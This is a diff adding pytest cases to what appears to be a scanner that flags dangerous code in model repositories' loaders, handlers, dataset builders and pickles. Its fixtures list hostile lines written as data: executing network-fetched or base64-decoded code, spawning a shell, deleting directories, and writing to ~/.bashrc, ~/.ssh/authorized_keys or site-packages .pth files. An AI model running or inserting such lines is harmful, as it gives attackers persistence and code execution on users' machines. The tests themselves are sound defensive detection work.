@@ -513,3 +513,165 @@ def test_what_a_script_to_try_a_model_may_do(name, line, severity):
     files = {name: file(name, (IMPORT + line).encode()), "x.gguf": file("x.gguf", b"GGUF")}
     found = [each.severity.value for each in judged(collect(scope(files))) if each.rule == "MLG-HFR-004"]
     assert found == [severity]
+
+
+CLASS = (
+    "import os, subprocess, shutil, socket, requests, runpy, atexit, pathlib, tempfile, glob, base64, pty\n"
+    "import torch.utils.cpp_extension\n"
+    "class {base}:\n  def {method}(self, x=None):\n    {line}\n"
+)
+USED = {
+    "a class that auto_map names": ("m/net.py", "Net", "__init__", {"m/config.json": NAMED}),
+    "its forward": ("m/net.py", "Net", "forward", {"m/config.json": NAMED}),
+    "its from_pretrained": ("m/net.py", "Net", "from_pretrained", {"m/config.json": NAMED}),
+    "a handler": ("m/handler.py", "EndpointHandler", "__init__", {"m/x.pkl": MODEL}),
+    "a handler that is called": ("m/handler.py", "EndpointHandler", "__call__", {"m/x.pkl": MODEL}),
+    "a builder": ("d/d.py", "D(__import__('datasets').GeneratorBasedBuilder)", "_info", {}),
+    "its splits": ("d/d.py", "D(__import__('datasets').GeneratorBasedBuilder)", "_split_generators", {}),
+    "its examples": ("d/d.py", "D(__import__('datasets').GeneratorBasedBuilder)", "_generate_examples", {}),
+    "a builder beside a model": (
+        "m/other.py", "D(__import__('datasets').GeneratorBasedBuilder)", "_info", {"m/x.pkl": MODEL},
+    ),
+}  # fmt: skip
+
+
+def when_used(place, line):
+    path, base, method, beside = USED[place]
+    source = CLASS.format(base=base, method=method, line=line).encode()
+    files = {name: file(name, data) for name, data in {path: source, **beside}.items()}
+    hits = judged(collect(scope(files)))
+    return max(
+        (each.severity.value for each in hits if each.rule == "MLG-HFR-004"),
+        key=["medium", "high", "critical"].index,
+        default=None,
+    )
+
+
+@pytest.mark.parametrize("place", USED)
+def test_what_a_loader_uses_may_run_no_command(place):
+    assert when_used(place, "os.system('true')") == "high"
+    assert when_used(place, "requests.get('https://x')") is None
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "subprocess.run(['sh', '-c', 'true'])",
+        "subprocess.run('ffmpeg x; true', shell=True)",
+        "subprocess.run(['ffmpeg'], executable='sh')",
+        "subprocess.run(['ffmpeg'], **x)",
+        "c = ['ffmpeg']; c = ['sh']; subprocess.run(c)",
+        "__import__('os').system('true')",
+        "runpy.run_path('x.txt')",
+        "atexit.register(os.system, 'true')",
+        "pty.spawn('/bin/sh')",
+        "exec(base64.b64decode('x'))",
+        "exec(requests.get('https://x').text)",
+        "socket.create_connection(('x', 9)).send(b'x')",
+        "shutil.rmtree('/x')",
+        "[os.unlink(os.path.join('/x', each)) for each in os.listdir('/x')]",
+        "[os.remove(each) for each in glob.glob('/x/*')]",
+        "pathlib.Path('/x').unlink()",
+        "(pathlib.Path.home() / 'x').unlink()",
+        "p = tempfile.mktemp(); os.remove(p); os.remove('/x')",
+        "open(os.path.expanduser('~/.bashrc'), 'a').write('x')",
+        "pathlib.Path.home().joinpath('.bashrc').write_text('x')",
+        "(pathlib.Path.home() / '.bashrc').write_text('x')",
+        "p = os.path.join(os.path.expanduser('~'), '.bashrc'); open(p, 'a').write('x')",
+        "import site; open(os.path.join(site.getsitepackages()[0], 'x.pth'), 'w').write('x')",
+        "open('/usr/lib/python3/dist-packages/x.pth', 'w').write('x')",
+        "(pathlib.Path('~').expanduser().parent / '.profile').write_bytes(b'x')",
+    ],
+)
+def test_what_a_class_does_that_auto_map_names(line):
+    assert when_used("a class that auto_map names", line) == "high"
+
+
+@pytest.mark.parametrize(
+    ("line", "severity"),
+    [
+        ("torch.utils.cpp_extension.load('x', ['x.cpp'])", None),
+        ("requests.get('https://x').content", None),
+        ("socket.socket()", None),
+        ("open('x', 'w').write('x')", None),
+        ("pathlib.Path('x').write_text('x')", None),
+        ("shutil.copy('x', 'y')", None),
+        ("open('x/model.pth', 'wb').write(x)", None),
+        ("pathlib.Path('model.pth').write_bytes(x)", None),
+        ("subprocess.run(['ffmpeg', '-i', x], stdin=subprocess.PIPE)", "medium"),
+        ("c = ['ffmpeg', '-i', x]; subprocess.Popen(c)", "medium"),
+        ("p = tempfile.mktemp(); os.remove(p)", None),
+        ("fd, p = tempfile.mkstemp(); os.unlink(p)", None),
+        ("p = os.path.join(tempfile.mkdtemp(), 'x'); os.remove(p)", None),
+        ("f = tempfile.NamedTemporaryFile(delete=False); os.unlink(f.name)", None),
+        ("f = tempfile.NamedTemporaryFile(delete=False); pathlib.Path(f.name).unlink()", None),
+        ("self.d = tempfile.mkdtemp(); shutil.rmtree(self.d)", None),
+        ("open('/tmp/x.wav', 'wb').write(x); os.remove('/tmp/x.wav')", None),
+        ("p = '/tmp/' + x; open(p, 'wb').write(x); os.remove(p)", None),
+        ("os.remove(x)", "medium"),
+    ],
+)
+def test_what_honest_classes_do(line, severity):
+    assert when_used("a class that auto_map names", line) == severity
+
+
+@pytest.mark.parametrize(
+    ("line", "others"),
+    [
+        ("if x: p = tempfile.mktemp()", "p = '/x'"),
+        ("self.p = tempfile.mktemp()", "self.p = '/x'"),
+    ],
+)
+def test_a_path_that_may_be_another_is_not_a_temporary_one(line, others):
+    name = others.partition(" ")[0]
+    assert when_used("its forward", f"{others}\n    {line}\n    os.remove({name})") == "high"
+
+
+def test_methods_of_what_no_loader_uses():
+    source = CLASS.format(base="A", method="__init__", line="os.system('true')").encode()
+    assert [each.severity.value for each in judged(look(source, "modeling_x.py"))] == ["medium"]
+    for path in ("handler.py", "m/other.py"):
+        assert judged(look(source, path)) == ()
+    removes = CLASS.format(base="A", method="__init__", line="shutil.rmtree('/x')").encode()
+    assert judged(look(removes, "modeling_x.py")) == ()
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "pathlib.Path.home().joinpath('.bashrc').write_text('x')",
+        "(pathlib.Path.home() / '.ssh' / 'authorized_keys').write_text('x')",
+        "pathlib.Path('~/.profile').expanduser().write_bytes(b'x')",
+        "p = pathlib.Path.home() / '.zshrc'; p.write_text('x')",
+    ],
+)
+def test_start_up_files_that_are_written_by_their_path(line):
+    files = {"m/handler.py": f"import pathlib\n{line}\n".encode(), "m/x.pkl": MODEL}
+    (hit,) = (each for each in judged(collect(scope(files))) if each.rule == "MLG-HFR-004")
+    assert (hit.severity.value, "next start" in hit.message) == ("high", True)
+
+
+@pytest.mark.parametrize(
+    ("pickle", "source", "module", "severity"),
+    [
+        ("m/x.pkl", "m/helper.py", "helper", "high"),
+        ("m/x.pkl", "helper.py", "helper", "high"),
+        ("m/x.pkl", "m/helper/__init__.py", "helper", "high"),
+        ("m/x.pkl", "m/helper/net.py", "helper.net", "high"),
+        ("m/x.pkl", "m/helper/__init__.py", "helper.net", "high"),
+        ("m/x.pkl", "n/helper.py", "helper", None),
+        ("m/x.pkl", "m/helper.py", "other", "medium"),
+        ("m/x.pkl", "m/__main__.py", "__main__", "medium"),
+    ],
+)
+def test_a_pickle_that_imports_what_lies_beside_it(pickle, source, module, severity):
+    data = b"\x80\x02c" + module.encode() + b"\nModel\n)\x81."
+    hits = judged(collect(scope({pickle: data, source: ACTS})))
+    found = [each.severity.value for each in hits if each.rule == "MLG-HFR-004"]
+    assert found == ([severity] if severity else [])
+
+
+def test_a_pickle_that_imports_harmless_source():
+    data = b"\x80\x02chelper\nModel\n)\x81."
+    hits = judged(collect(scope({"m/x.pkl": data, "m/helper.py": b"class Model: pass\n"})))
+    assert not [each for each in hits if each.rule == "MLG-HFR-004"]
